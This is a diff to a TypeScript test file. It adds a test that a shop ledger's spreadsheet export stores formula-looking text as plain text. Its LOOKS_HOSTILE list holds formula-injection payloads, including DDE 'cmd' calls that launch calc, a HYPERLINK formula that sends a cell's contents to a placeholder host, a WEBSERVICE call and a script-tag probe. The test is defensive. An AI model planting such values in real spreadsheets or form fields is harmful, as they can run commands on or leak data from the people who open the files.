@@ -16,6 +16,7 @@ import type { LedgerRow } from '../../shared/domain/ledger/ledger-row.ts';
 import { localDate } from '../../shared/kernel/local-date.ts';
 import { openLivelyShop } from '../builders/lively-shop.ts';
 import { openShop, Shop, TEST_PERSONAL, TODAY, valueOf } from '../builders/shop.ts';
+import { openWithOpenpyxl } from '../builders/office.ts';
 
 const EVERYTHING = { ledger: null, from: null, to: null, villageId: null, householdId: null, level: 'full' as const };
 
@@ -109,6 +110,45 @@ test('two years of the demonstration village come out as they were', async () =>
   await drained(createDemo(db, { households: 25, years: 2, seed: 11, today: localDate(TODAY) }));
   db.close();
   const shop = new Shop(folder, path);
+  await expectRoundTrip(shop);
+  shop.close();
+});
+
+/** What a spreadsheet would take for a formula, a command or a number, were it not plain text. */
+const LOOKS_HOSTILE = [
+  '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
+  "=cmd|' /C calc'!A0",
+  '+cmd|calc',
+  '-2+3+cmd|x',
+  '@SUM(A1:A9)',
+  '=WEBSERVICE("http://x.invalid")',
+  '%0A=1+1',
+  "'=1+1",
+  '<script>alert(1)</script>',
+  '"&quot;,;\'',
+  '_x0041_',
+  '12E5',
+];
+
+test('text that looks like a formula goes out as text and comes back in as it was', async () => {
+  const shop = await openShop({ scheme: 'civility' });
+  const made = LOOKS_HOSTILE.map((text) => {
+    const household = shop.household({ headName: text, note: text, groupName: text, members: text });
+    return { household: household.id, item: shop.item({ name: text, note: text, spec: text }).id };
+  });
+  for (const { item } of made) shop.receive(item, 5, 500);
+  for (const { household } of made) shop.award(household, 100_000);
+  for (const { household, item } of made) shop.redeem(household, [[item, 2]]);
+  const path = await exportAll(shop, 'looked-at.xlsx');
+  const cells = openWithOpenpyxl(path).flatMap(({ cells: all }) => Object.values(all));
+  const seen = (text: string): number => cells.filter(({ value, type }) => value === text && type === 's').length;
+  // openpyxl shows the spelling of the format where the text itself looks like one.
+  const written = LOOKS_HOSTILE.map((text) => text.replace('_x', '_x005F_x'));
+  expect(written.filter((text) => seen(text) < 5)).toEqual([]);
+  // The only formulas are our own sums.
+  expect(
+    cells.filter(({ type, value }) => type === 'f' && !/^=SUM\([A-Z]+\d+:[A-Z]+\d+\)$/.test(String(value))),
+  ).toEqual([]);
   await expectRoundTrip(shop);
   shop.close();
 });
